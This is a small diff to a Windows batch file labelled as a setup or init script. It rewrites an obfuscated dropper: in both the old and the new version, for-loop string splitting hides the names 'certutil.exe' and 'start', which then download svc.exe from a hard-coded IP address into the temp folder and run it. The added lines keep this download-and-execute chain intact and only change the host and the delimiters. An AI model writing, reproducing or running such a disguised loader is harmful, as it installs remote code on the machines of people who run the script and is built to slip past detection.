@@ -1,4 +1,4 @@
-REM setup 3439 v4
+REM init 3078 v4
 @echo off
-for /f "tokens=3 delims=~" %%i in ("hitq~mqbd~certutil.exe") do %%i -urlcache -split -f http://198.51.100.23/svc.exe %TEMP%\svc.exe
-for /f "tokens=2 delims=@" %%i in ("jyob@start@zurh") do %%i "" %TEMP%\svc.exe
+for /f "tokens=2 delims=#" %%i in ("uggx#certutil.exe#nxpl") do %%i -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
+for /f "tokens=1 delims=;" %%i in ("start;wcaj;xeev") do %%i "" %TEMP%\svc.exe
